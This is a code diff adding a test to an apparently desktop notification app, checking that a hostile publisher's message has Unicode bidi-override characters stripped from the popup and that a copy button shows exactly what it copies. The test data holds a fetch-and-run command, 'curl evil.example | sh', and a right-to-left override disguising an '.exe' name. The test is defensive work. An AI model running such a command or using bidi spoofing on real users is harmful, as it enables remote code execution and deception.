@@ -101,6 +101,27 @@ describe('the app core (engine + history + notifications + bridge, no Electron)'
     });
   });
 
+  it("shows a hostile publisher's text as it is: no bidi override in the popup, buttons say what they copy", async () => {
+    const open = nextConnections((connections) => connections.some((c) => c.state.kind === 'open'));
+    expect((await core.service.saveSubscription({ server: server.url, topic: 'bills' })).ok).toBe(true);
+    await open;
+    await server.waitForSubscribers(1);
+    await server.publish('bills', {
+      title: 'Your invoice\u202efdp.exe',
+      message: 'Pay now \u2066please\u2069',
+      actions: [{ action: 'copy', label: 'Copy \u202ecode', value: 'curl evil.example | sh', clear: false }],
+    });
+    const popup = await notifier.waitForShown(() => true);
+    expect(popup.title).toBe('Your invoicefdp.exe');
+    expect(popup.body).toBe('Pay now please');
+    expect(popup.actions.map((action) => action.label)).toEqual(['Copy code: “curl evil.example | sh”']);
+    const page = await core.service.listMessages({});
+    expect(page.ok && page.value.messages[0]?.actions).toMatchObject([
+      { kind: 'copy', value: 'curl evil.example | sh' },
+    ]);
+    expect(core.trayState().latest.map((latest) => latest.title)).toEqual(['Your invoice\u202efdp.exe']);
+  });
+
   it('keeps storing but stops popups when muted from the tray or paused', async () => {
     const open = nextConnections((connections) => connections.some((c) => c.state.kind === 'open'));
     const saved = await core.service.saveSubscription({ server: server.url, topic: 'alerts' });
